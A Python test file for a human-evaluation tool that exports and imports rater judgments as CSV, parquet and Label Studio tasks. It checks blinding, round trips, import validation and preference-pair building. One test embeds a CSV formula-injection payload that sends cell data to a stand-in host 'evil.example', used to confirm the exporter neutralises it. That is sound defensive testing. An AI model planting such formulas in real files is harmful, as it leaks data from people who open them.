"""Ratings as files: what is written is read back, tasks for Label Studio are blind, and nothing half wrong comes in."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from tests.assessed import careful, clicking, make_panel, rate_all
from tests.vacuous import nonempty

from luthier.core.access import Caller
from luthier.core.conversation import Message
from luthier.core.errors import ConflictError, DataError, NotFoundError, RequestError
from luthier.core.ids import sha256_document
from luthier.core.results.human_eval import RatingItem, RatingsTable
from luthier.features.human_eval import files, rating_view
from luthier.features.human_eval.files import export_panel, format_of, import_label_studio, preference_pairs
from luthier.features.human_eval.items import AnsweredRow, AnsweredRows
from luthier.features.human_eval.service import NewPanel, close_panel, create_panel, ratings_table
from luthier.ml.data.rows.formats import load_file
from luthier.platform.home.context import Context

ME = Caller()


@pytest.mark.parametrize("kind", ["pairwise", "likert"])
@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_a_table_that_was_written_is_read_back(context: Context, tmp_path: Path, kind: str, suffix: str) -> None:
    made = make_panel(context, kind=kind)  # type: ignore[arg-type]
    rate_all(context, made, 0, careful(kind))  # type: ignore[arg-type]
    path = tmp_path / f"ratings.{suffix}"
    path.write_bytes(export_panel(context, "default", made.panel.panel_id, format_of(path)))
    assert RatingsTable.read(path) == ratings_table(context, "default", made.panel.panel_id)


def test_what_a_rater_wrote_is_no_formula_in_a_spreadsheet(context: Context, tmp_path: Path) -> None:
    made = make_panel(context)
    rate_all(context, made, 0, careful("pairwise"))
    comment = '=HYPERLINK("http://evil.example/?"&A1)'
    table = ratings_table(context, "default", made.panel.panel_id)
    changed = RatingsTable(tuple(row.model_copy(update={"comment": comment, "rater": "+1"}) for row in table.rows))
    path = tmp_path / "ratings.csv"
    path.write_bytes(files._csv(changed))
    cells = [cell for line in csv.reader(path.read_text(encoding="utf-8").splitlines()) for cell in line]
    assert {f"'{comment}", "'+1"} <= {*cells}
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert RatingsTable.read(path) == changed


def test_a_carriage_return_of_a_rater_begins_no_row(context: Context, tmp_path: Path) -> None:
    made = make_panel(context)
    rate_all(context, made, 0, careful("pairwise"))
    table = ratings_table(context, "default", made.panel.panel_id)
    changed = RatingsTable(tuple(row.model_copy(update={"comment": "nice\r=1+1"}) for row in table.rows))
    path = tmp_path / "ratings.csv"
    path.write_bytes(files._csv(changed))
    with path.open(encoding="utf-8", newline="") as file:
        assert not [line for line in nonempty(list(csv.reader(file))) if line[0].startswith("=")]
    assert RatingsTable.read(path) == changed


def test_formats_go_by_the_name_and_another_project_gets_nothing(context: Context) -> None:
    with pytest.raises(RequestError, match=r"\.csv"):
        format_of(Path("ratings.xlsx"))
    other = context.access.add_project("proj-other", "other").project_id
    with pytest.raises(NotFoundError):
        export_panel(context, other, make_panel(context).panel.panel_id, "csv")


def tasks_of(context: Context, made: NewPanel) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(export_panel(context, "default", made.panel.panel_id, "json"))
    return found


def test_tasks_name_no_system_and_stand_in_a_drawn_order(context: Context) -> None:
    made = make_panel(context, num_rows=20)
    tasks = tasks_of(context, made)
    assert len(tasks) == made.panel.num_items
    text = json.dumps(tasks)
    assert "base" not in text
    assert "tuned" not in text
    assert "check" not in text.replace("checks whether", "")
    first = [task["data"]["answer_1"] == item.answers[0].text for task, item in _with_items(context, made, tasks)]
    assert first.count(True) == first.count(False)


def test_sides_of_a_whole_panel_are_ranked_once(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
    panel = make_panel(context, num_rows=20).panel
    drawn: list[object] = []

    def digest(document: object) -> str:
        drawn.append(document)
        return sha256_document(document)

    monkeypatch.setattr(rating_view, "sha256_document", digest)
    sides = [rating_view.shown_first(panel, "a rater of this test", item) for item in range(panel.num_items)]
    assert len(drawn) == panel.num_items
    # Stored ratings rest on these sides: they never change for a seed and a rater.
    ranked = sorted(
        range(panel.num_items), key=lambda one: sha256_document([panel.seed, "a rater of this test", "side", one])
    )
    assert sides == ["a" if ranked.index(item) % 2 == 0 else "b" for item in range(panel.num_items)]


def _with_items(
    context: Context, made: NewPanel, tasks: list[dict[str, Any]]
) -> list[tuple[dict[str, Any], RatingItem]]:
    return list(zip(tasks, context.rating_panels.items(made.panel.panel_id), strict=True))


@pytest.mark.parametrize("kind", ["pairwise", "likert"])
def test_ratings_go_there_and_back_with_their_raters(context: Context, kind: str) -> None:
    made, empty = make_panel(context, kind=kind), make_panel(context, kind=kind)  # type: ignore[arg-type]
    rate_all(context, made, 0, careful(kind))  # type: ignore[arg-type]
    tasks = tasks_of(context, made)
    for task in tasks:
        task["data"]["panel_id"] = empty.panel.panel_id
    # Both panels were made of the same answers by the same seed, so that their items are the same.
    content = json.dumps(tasks).encode()
    found = import_label_studio(context, ME, empty.panel.panel_id, content, "tasks.json")
    assert (found.num_ratings, found.raters) == (made.panel.num_items, ("Ada",))
    there, back = (
        [
            (row.item, row.preference, row.relevance, row.comment, pytest.approx(row.rated_at, abs=0.01))
            for row in ratings_table(context, "default", one.panel.panel_id).rows
        ]
        for one in (made, empty)
    )
    assert back == there
    again = import_label_studio(context, ME, empty.panel.panel_id, content, "tasks.json")
    assert again.num_ratings == found.num_ratings
    assert len(context.rating_panels.ratings(empty.panel.panel_id)) == found.num_ratings, "the newest word counts"


def answered(task: dict[str, Any], choice: str = "Answer 1", **annotation: Any) -> dict[str, Any]:
    result = {"from_name": "preference", "to_name": "prompt", "type": "choices", "value": {"choices": [choice]}}
    return {**task, "annotations": [{"completed_by": 7, "result": [result], "lead_time": 4.2} | annotation]}


def test_what_label_studio_itself_exports_comes_in(context: Context) -> None:
    made = make_panel(context)
    tasks = tasks_of(context, made)
    exported = [
        answered(tasks[0], created_at="2026-11-26T10:00:00.000000Z"),
        answered(tasks[1], "Tie", completed_by={"id": 3, "email": "eve@example.org"}),
        answered(tasks[2], was_cancelled=True),
        tasks[3],
    ]
    found = import_label_studio(context, ME, made.panel.panel_id, json.dumps(exported).encode(), "export.json")
    assert (found.num_ratings, found.num_skipped) == (2, 1)
    assert found.raters == ("eve@example.org", "label studio 7")
    rows = {row.item: row for row in ratings_table(context, "default", made.panel.panel_id).rows}
    shown = tasks[0]["data"]["answer_1"]
    assert (rows[0].answer_a if rows[0].preference == "a" else rows[0].answer_b) == shown
    assert (rows[0].seconds, rows[1].preference) == (4.2, "tie")
    newest = context.rating_panels.raters(made.panel.panel_id)[-1]
    assert not newest.has_link


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"item": 999}, "item '999' is not one of the"),
        ({"item": True}, "is not one of the"),
        ({"panel_id": "panel-x"}, "is of panel 'panel-x'"),
        ({"choice": "Answer 3"}, "is not one of Answer 1"),
        ({"completed_by": None}, "names no rater"),
        ({"result": "text"}, "without a value"),
        ({"result": []}, "preference 'None'"),
    ],
)
def test_one_wrong_annotation_keeps_all_out(context: Context, change: dict[str, Any], reason: str) -> None:
    made = make_panel(context)
    tasks = tasks_of(context, made)
    wrong = answered(tasks[1], change.get("choice", "Tie"))
    wrong["data"] = wrong["data"] | {k: v for k, v in change.items() if k in ("item", "panel_id")}
    wrong["annotations"][0] |= {k: v for k, v in change.items() if k in ("completed_by", "result")}
    content = json.dumps([answered(tasks[0]), wrong]).encode()
    with pytest.raises(DataError) as caught:
        import_label_studio(context, ME, made.panel.panel_id, content, "export.json")
    (problem,) = caught.value.problems
    assert reason in problem.reason
    assert problem.line == 2
    assert context.rating_panels.ratings(made.panel.panel_id) == []
    assert len(context.rating_panels.raters(made.panel.panel_id)) == 3


@pytest.mark.parametrize("content", [b"", b"{}", b"[1]", b"\xff", b"[]", b"[" * 100_000])
def test_files_that_are_no_export_are_refused(context: Context, content: bytes) -> None:
    made = make_panel(context)
    with pytest.raises(DataError):
        import_label_studio(context, ME, made.panel.panel_id, content, "export.json")


def test_a_closed_panel_takes_nothing_in(context: Context) -> None:
    made = make_panel(context)
    content = json.dumps([answered(tasks_of(context, made)[0])]).encode()
    close_panel(context, ME, made.panel.panel_id)
    with pytest.raises(ConflictError):
        import_label_studio(context, ME, made.panel.panel_id, content, "export.json")


def test_pairs_are_what_most_prefer_and_all_else_is_counted(context: Context, tmp_path: Path) -> None:
    made = make_panel(context, num_rows=12, attention=0, raters=3)
    votes = {0: ("a", "a", "b"), 1: ("a", "b", "tie"), 2: ("tie", "tie", "tie"), 3: ("b", "b", "b")}
    for place in range(3):
        rate_all(context, made, place, lambda item, place=place: votes[item.item % 4][place])  # type: ignore[misc]
    found = preference_pairs(context, ME, made.panel.panel_id, with_caught=True)
    assert found.left_out == {"raters disagree": 3, "a tie": 3}
    assert len(found.rows) == 6
    texts = {
        item.prompt: [answer.text for answer in item.answers]
        for item in context.rating_panels.items(made.panel.panel_id)
    }
    assert all({row["chosen"], row["rejected"]} == set(texts[row["prompt"]]) for row in found.rows)
    path = tmp_path / "pairs.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in found.rows))
    loaded = load_file(path)
    assert (loaded.shape, len(loaded.examples)) == ("preference", 6)


def test_pairs_leave_out_who_does_not_read_unless_asked(context: Context) -> None:
    made = make_panel(context, num_rows=30)
    for place in (0, 1):
        rate_all(context, made, place, careful("pairwise", seed=place))
    rate_all(context, made, 2, clicking("pairwise", seed=5))
    without = preference_pairs(context, ME, made.panel.panel_id)
    assert without.caught == ("Cleo",)
    assert preference_pairs(context, ME, made.panel.panel_id, with_caught=True).caught == ()
    assert all(nonempty("check" not in row["chosen"] for row in without.rows))


def test_scores_make_pairs_where_they_lie_a_point_apart(context: Context) -> None:
    made = make_panel(context, kind="likert", num_rows=6, attention=0, raters=1)

    def says(item: RatingItem) -> Any:
        number = int(item.row_id.split(":")[1])
        level = (5 if number % 2 else 3) if item.answers[0].system == "tuned" else 3
        return {"relevance": level, "coherence": level, "accuracy": level}

    rate_all(context, made, 0, says)
    found = preference_pairs(context, ME, made.panel.panel_id)
    assert len(found.rows) == 3
    assert found.left_out == {"less than 1 point apart": 3}
    assert all(len(row["chosen"]) > len(row["rejected"]) for row in found.rows), "the tuned answers are longer"


def test_prompts_of_several_turns_keep_their_turns_or_are_left_out(context: Context, tmp_path: Path) -> None:
    turns = tuple(Message(role=role, content=text) for role, text in (("system", "Be brief."), ("user", "Why?")))
    texts = {"base": "no", "tuned": "because"}
    rows = (
        AnsweredRow("r:1", "[system] Be brief.\n\n[user] Why?", turns, "", texts),
        AnsweredRow("r:2", "[system] Be brief.\n\n[user] Why?", (), "", texts),
        AnsweredRow("r:3", "Why?", (), "", {"base": "", "tuned": "because"}),
    )
    answered_ = AnsweredRows(("base", "tuned"), "rows.jsonl", rows)
    made = create_panel(context, ME, answered_, kind="pairwise", attention=0, raters=1)
    rate_all(context, made, 0, lambda _: "b")
    found = preference_pairs(context, ME, made.panel.panel_id)
    (row,) = found.rows
    assert row["prompt"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Why?"}]
    assert sum(found.left_out.values()) == 2
    path = tmp_path / "pairs.jsonl"
    path.write_text(json.dumps(row) + "\n")
    assert load_file(path).examples[0].rejected is not None
